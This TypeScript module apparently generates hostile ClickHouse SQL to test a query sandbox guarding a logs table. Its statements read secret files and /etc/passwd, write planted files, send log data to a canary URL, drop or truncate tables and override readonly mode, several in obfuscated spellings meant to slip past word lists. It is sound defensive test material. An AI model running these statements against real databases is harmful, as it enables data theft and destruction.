/**
 * Statements by which somebody who reaches the store would take, write or call what is not theirs: the kinds that were
 * found, and each table function and engine that the engine has, in many spellings.
 */

export interface Prey {
  /** A file that must not be read. */
  readonly secretFile: string;
  /** A file that must not come to be. */
  readonly plantedFile: string;
  /** Where nothing must connect to, `http://127.0.0.1:PORT/x`. */
  readonly canaryUrl: string;
}

/** Names as an attacker would write them to get past a list of words. */
function* spellingsOf(name: string): Generator<string> {
  const code = name.charCodeAt(0).toString(16).padStart(2, '0');
  yield name;
  yield name.toUpperCase();
  yield `/**/${name}/**/`;
  yield `\`${name}\``;
  yield `"${name}"`;
  yield `\`\\x${code}${name.slice(1)}\``;
  yield `"\\x${code}${name.slice(1)}"`;
  yield `\`${name.slice(0, 1)}\\${name.slice(1)}\``;
  yield `${name}\u00a0`;
  yield `${name} -- \n`;
  yield `${name} # \n`;
}

/** Arguments that one or another of the functions takes. */
function argumentsFor(prey: Prey): readonly string[] {
  const address = new URL(prey.canaryUrl).host;
  return [
    `('${prey.secretFile}', LineAsString)`,
    `('${prey.canaryUrl}', CSV, 'a String')`,
    `('${address}', 'default', 'otel_logs', 'u', 'p')`,
    `('default', system.one)`,
    `('SELECT 1')`,
    '()',
  ];
}

/** One statement for each table function, spelling and kind of arguments. */
export function* tableFunctionAttacks(names: readonly string[], prey: Prey): Generator<string> {
  for (const name of names) {
    for (const given of argumentsFor(prey)) {
      yield `SELECT * FROM ${name}${given}`;
      yield `INSERT INTO FUNCTION ${name}${given} VALUES ('x')`;
      yield `DESCRIBE ${name}${given}`;
    }
    for (const spelling of spellingsOf(name))
      yield `SELECT * FROM ${spelling}('${prey.secretFile}', LineAsString)`;
  }
}

export function* tableEngineAttacks(names: readonly string[], prey: Prey): Generator<string> {
  for (const name of names) {
    for (const given of argumentsFor(prey)) {
      yield `CREATE TABLE sluice_attack (a String) ENGINE = ${name}${given}`;
      yield `CREATE TABLE IF NOT EXISTS sluice_attack (a String) ENGINE = ${name}${given} ORDER BY a`;
    }
  }
}

/** What was found by hand. */
export function foundAttacks(prey: Prey): readonly string[] {
  const { secretFile, plantedFile, canaryUrl } = prey;
  return [
    `SELECT file('${secretFile}')`,
    `SELECT \`fi\\x6ce\`('${secretFile}')`,
    `SELECT $$x$$, file('${secretFile}') -- $$`,
    `SELECT x$$ FROM file('${secretFile}', LineAsString) WHERE $$x`,
    `SELECT * FROM eval('SELECT * FROM file(\\'${secretFile}\\', LineAsString)')`,
    `DESCRIBE file('${secretFile}')`,
    `SELECT 1 INTO OUTFILE '${plantedFile}'`,
    `SELECT 1 FROM otel_logs LIMIT 1 INTO OUTFILE '${plantedFile}' FORMAT CSV`,
    `SELECT 1 /* ' */ INTO OUTFILE '${plantedFile}' /* ' */`,
    `INSERT INTO FUNCTION file('${plantedFile}', CSV, 'a String') VALUES ('x')`,
    `INSERT INTO TABLE FUNCTION file('${plantedFile}', CSV, 'a String') SELECT Body FROM otel_logs`,
    `INSERT INTO FUNCTION url('${canaryUrl}', CSV, 'a String') SELECT Body FROM otel_logs`,
    `INSERT INTO otel_logs (Body) FROM INFILE '${secretFile}' FORMAT LineAsString`,
    `INSERT INTO otel_logs (Body) SELECT file('${secretFile}')`,
    `INSERT INTO otel_logs (Body) VALUES (file('${secretFile}'))`,
    `CREATE TABLE sluice_attack (a String DEFAULT file('${secretFile}')) ENGINE = Memory`,
    `CREATE TABLE sluice_attack ENGINE = MergeTree ORDER BY tuple() AS SELECT file('${secretFile}') AS a`,
    `CREATE VIEW sluice_attack AS SELECT file('${secretFile}') AS a`,
    `CREATE DICTIONARY sluice_attack (a String) PRIMARY KEY a SOURCE(HTTP(URL '${canaryUrl}' FORMAT CSV)) LAYOUT(FLAT()) LIFETIME(1)`,
    `CREATE FUNCTION attack AS (x) -> file('${secretFile}')`,
    `CREATE DATABASE attack ENGINE = Filesystem('/')`,
    `ATTACH TABLE sluice_attack FROM '/etc' (a UInt8) ENGINE = Log`,
    `BACKUP DATABASE default TO File('${plantedFile}')`,
    `BACKUP DATABASE default TO S3('${canaryUrl}', 'a', 'b')`,
    'SELECT 1; SET readonly = DEFAULT; DROP TABLE otel_logs',
    'SET readonly = DEFAULT',
    'SELECT 1 SETTINGS readonly = 0',
    'SYSTEM SHUTDOWN',
    'SYSTEM DROP DISK METADATA CACHE',
    'KILL QUERY WHERE 1',
    'DROP TABLE otel_logs',
    '/**/DROP TABLE otel_logs SYNC',
    '-- \nDROP TABLE otel_logs',
    'TRUNCATE TABLE otel_logs',
    'RENAME TABLE otel_logs TO sluice_attack',
    'ALTER TABLE otel_logs DELETE WHERE 1',
    `ALTER TABLE otel_logs MODIFY TTL toDateTime(Timestamp) + INTERVAL 1 SECOND`,
    'EXCHANGE TABLES otel_logs AND sluice_moved_blocks',
    'DETACH TABLE otel_logs PERMANENTLY',
    'CREATE TEMPORARY TABLE attack (a UInt8)',
    'SELECT * FROM system.processes',
    "SELECT * FROM merge('system', '.*')",
    "SELECT * FROM view(SELECT file('/etc/passwd'))",
  ];
}
